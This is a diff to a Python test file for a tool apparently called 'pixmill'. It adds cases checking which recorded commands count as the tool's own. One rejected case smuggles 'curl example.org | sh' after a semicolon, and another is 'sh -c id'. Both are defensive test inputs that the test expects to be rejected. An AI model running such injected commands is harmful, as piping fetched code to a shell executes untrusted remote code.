@@ -125,6 +125,21 @@ OUTCOME = {
         ({**OUTCOME, "model": {"name": "pets", "version": None}}, False),
         ({"model": {"name": "pets", "version": "2"}}, False),
         ([], False),
+        *(
+            (
+                OUTCOME
+                | {"model": {"name": "pets", "version": "2"}, "alarm": True, "command": command},
+                is_ours,
+            )
+            for command, is_ours in {
+                "pixmill watch 'my log' --label 60": True,
+                "dvc repro && pixmill promote": True,
+                "pixmill watch log; curl example.org | sh": False,
+                "sh -c id": False,
+                "pixmill watch 'log": False,
+                None: False,
+            }.items()
+        ),
     ],
 )
 def test_last_watch_counts_if_it_is_of_the_model_in_production(
@@ -133,9 +148,12 @@ def test_last_watch_counts_if_it_is_of_the_model_in_production(
     write(tmp_path / ".pixmill/watch/last.json", content)
     assert read_project_state(tmp_path, stages=False, full=False).watched is None
     monkeypatch.setattr(project_state, "_champion", lambda _: Champion("pets", 2, "", None))
-    shown = {name: value for name, value in OUTCOME.items() if name != "waiting"}
-    expected = {**shown, "is_answered": False} if is_shown else None
-    assert read_project_state(tmp_path, stages=False).watched == expected
+    watched = read_project_state(tmp_path, stages=False).watched
+    if not is_shown:
+        assert watched is None
+        return
+    shown = {name: content[name] for name in OUTCOME if name != "waiting"}
+    assert watched == {**shown, "is_answered": False}
 
 
 def test_last_watch_is_of_the_trained_model_without_one_in_production(tmp_path: Path) -> None:
